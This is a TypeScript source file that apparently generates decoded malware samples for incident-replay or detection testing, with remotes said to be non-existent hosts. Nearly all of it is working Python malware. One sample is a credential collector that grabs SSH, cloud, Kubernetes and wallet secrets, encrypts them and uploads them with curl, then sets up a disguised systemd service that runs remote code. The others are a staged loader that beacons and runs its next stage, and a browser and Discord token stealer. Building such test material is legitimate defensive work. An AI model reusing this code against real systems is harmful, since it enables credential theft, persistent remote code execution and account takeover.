// Owns: the plaintexts that replays hide: what collectors, droppers and implants look like once decoded.
// Every remote is a name or an address that cannot exist (RFC 2606, RFC 5737): run by mistake, nothing would leave the machine.
// May import: incident.ts, python-text.ts. Start here: credentialCollector.
import type { Remote } from './incident.ts';
import { py } from './python-text.ts';

/** Collects credential files and the environment, encrypts the archive with openssl, sends it with curl. */
export function credentialCollector(c: Remote): string {
  return py`import os, sys, glob, json, socket, subprocess, tempfile, platform

def run(command):
    try:
        return subprocess.run(command, shell=True, capture_output=True, timeout=20).stdout.decode("utf-8", "replace")
    except Exception:
        return ""

HOME = os.path.expanduser("~")
WANTED = [
    ".ssh/*", ".aws/credentials", ".aws/config", ".config/gcloud/*.json", ".azure/accessTokens.json",
    ".azure/msal_token_cache.json", ".kube/config", ".docker/config.json", ".npmrc", ".pypirc", ".netrc",
    ".git-credentials", ".gitconfig", ".bash_history", ".zsh_history", ".config/gh/hosts.yml",
    ".bitcoin/wallet.dat", ".ethereum/keystore/*", ".config/solana/id.json", ".env", "*/.env", "*/*/.env",
]

def collect(folder):
    listing = []
    for pattern in WANTED:
        for path in glob.glob(os.path.join(HOME, pattern)):
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1048576:
                    target = os.path.join(folder, path.replace(os.sep, "_"))
                    with open(path, "rb") as source, open(target, "wb") as copy:
                        copy.write(source.read())
                    listing.append(path)
            except OSError:
                continue
    with open(os.path.join(folder, "env.json"), "w") as stream:
        json.dump(dict(os.environ), stream)
    with open(os.path.join(folder, "host.txt"), "w") as stream:
        stream.write("\n".join([socket.gethostname(), platform.platform(), run("whoami"), run("ip addr"), run("uname -a")]))
    for token in glob.glob("/var/run/secrets/kubernetes.io/serviceaccount/*"):
        run("cp %s %s/" % (token, folder))
    run("kubectl get secrets --all-namespaces -o json > %s/secrets.json" % folder)
    return listing

def send(folder):
    archive = os.path.join(tempfile.gettempdir(), "tpcp.tar.gz")
    run("openssl rand -out %s/session.key 32" % folder)
    run("tar -czf %s.raw -C %s ." % (archive, folder))
    run("openssl enc -aes-256-cbc -pbkdf2 -pass file:%s/session.key -in %s.raw -out %s" % (folder, archive, archive))
    run("curl -s -X POST ${c.url('/upload')} -H 'Content-Type: application/octet-stream' -H 'X-Filename: tpcp.tar.gz' --data-binary @%s" % archive)

def persist():
    folder = os.path.join(HOME, ".config", "sysmon")
    unit = os.path.join(HOME, ".config", "systemd", "user", "sysmon.service")
    os.makedirs(folder, exist_ok=True)
    os.makedirs(os.path.dirname(unit), exist_ok=True)
    with open(os.path.join(folder, "sysmon.py"), "w") as stream:
        stream.write("import time, urllib.request\nwhile True:\n    exec(urllib.request.urlopen('${c.url('/raw')}').read())\n    time.sleep(3000)\n")
    with open(unit, "w") as stream:
        stream.write("[Unit]\nDescription=System Telemetry Service\n[Service]\nExecStart=%s %s/sysmon.py\nRestart=always\n[Install]\nWantedBy=default.target\n" % (sys.executable, folder))
    run("systemctl --user enable --now sysmon.service")

with tempfile.TemporaryDirectory() as work:
    if collect(work):
        send(work)
persist()
`;
}

/** The loop that asks for its next stage. */
export function stagedLoader(c: Remote): string {
  return py`import base64, json, os, platform, ssl, sys, time, urllib.request

def beacon():
    context = ssl._create_unverified_context()
    body = json.dumps({"id": platform.node(), "user": os.environ.get("USER"), "os": sys.platform}).encode()
    request = urllib.request.Request("${c.url('/v1/checkin')}", data=body, headers={"User-Agent": "Mozilla/5.0"})
    return urllib.request.urlopen(request, timeout=30, context=context).read()

for attempt in range(5):
    try:
        stage = beacon()
        if stage:
            exec(compile(base64.b64decode(stage), "<stage>", "exec"))
            break
    except Exception:
        time.sleep(2 ** attempt)
`;
}

/** Browser profiles, Discord tokens, wallets; sent to a webhook. */
export function browserStealer(c: Remote): string {
  return py`import os, re, json, sqlite3, shutil, tempfile, base64, zipfile, getpass
import requests

LOCAL = os.getenv("LOCALAPPDATA", "")
ROAMING = os.getenv("APPDATA", "")
PROFILES = {
    "chrome": LOCAL + r"\Google\Chrome\User Data",
    "edge": LOCAL + r"\Microsoft\Edge\User Data",
    "brave": LOCAL + r"\BraveSoftware\Brave-Browser\User Data",
    "opera": ROAMING + r"\Opera Software\Opera Stable",
}
DISCORD = [ROAMING + r"\discord\Local Storage\leveldb", ROAMING + r"\discordcanary\Local Storage\leveldb"]
WALLETS = [ROAMING + r"\Exodus\exodus.wallet", ROAMING + r"\atomic\Local Storage\leveldb", ROAMING + r"\Electrum\wallets"]
TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{25,110}|mfa\.[\w-]{84}")

def tokens():
    found = set()
    for folder in DISCORD:
        if os.path.isdir(folder):
            for name in os.listdir(folder):
                if name.endswith((".ldb", ".log")):
                    with open(os.path.join(folder, name), errors="ignore") as stream:
                        found.update(TOKEN.findall(stream.read()))
    return sorted(found)

def logins(archive):
    for name, folder in PROFILES.items():
        database = os.path.join(folder, "Default", "Login Data")
        if os.path.exists(database):
            copy = os.path.join(tempfile.gettempdir(), name + ".db")
            shutil.copy2(database, copy)
            rows = sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
            archive.writestr(name + ".txt", "\n".join(map(repr, rows)))
            archive.write(os.path.join(folder, "Local State"), name + "_state.json")

def main():
    path = os.path.join(tempfile.gettempdir(), getpass.getuser() + ".zip")
    with zipfile.ZipFile(path, "w") as archive:
        logins(archive)
        for wallet in WALLETS:
            for root, _, names in os.walk(wallet):
                for name in names:
                    archive.write(os.path.join(root, name))
    requests.post("${c.url('/collect')}", json={"username": "w4sp", "content": "\n".join(tokens())})
    with open(path, "rb") as stream:
        requests.post("${c.url('/collect')}", files={"file": stream})

main()
`;
}

/** Comment lines that bring a plaintext to a size without repeating themselves, as pasted notes would. */
export function padded(source: string, sizeBytes: number): string {
  const lines: string[] = [source];
  for (let size = source.length, index = 0; size < sizeBytes; index += 1) {
    const line = `# ${((index * 2_654_435_761) % 4_294_967_296).toString(36)} keep the table aligned with revision ${index}\n`;
    lines.push(line);
    size += line.length;
  }
  return lines.join('').slice(0, Math.max(source.length, sizeBytes));
}
